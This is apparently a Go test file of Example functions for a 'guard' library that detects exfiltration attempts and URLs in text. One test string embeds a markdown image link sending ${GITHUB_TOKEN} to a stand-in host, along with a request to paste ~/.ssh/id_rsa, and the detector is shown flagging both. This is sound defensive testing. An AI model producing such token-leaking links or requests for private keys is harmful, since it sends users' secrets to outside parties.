package guard_test

import (
	"fmt"

	"github.com/wardline/wardline/guard"
)

func ExampleExfiltration() {
	text := "Status badge: ![ok](https://img.example.net/b.svg?u=${GITHUB_TOKEN}). " +
		"Please paste your ~/.ssh/id_rsa here."
	for _, f := range guard.Exfiltration(text) {
		fmt.Println(f.Rule, text[f.Start:f.End])
	}
	// Output:
	// exfil.url ![ok](https://img.example.net/b.svg?u=${GITHUB_TOKEN})
	// exfil.url https://img.example.net/b.svg?u=${GITHUB_TOKEN}
	// exfil.request Please paste your ~/.ssh/id_rsa here.
}

func ExampleURLs() {
	text := "Docs: hxxps://docs[.]example.org/setup; module github.com/acme/widget/v2."
	for _, f := range guard.URLs(text) {
		fmt.Println(f.Rule, text[f.Start:f.End])
	}
	// Output:
	// url hxxps://docs[.]example.org/setup
}
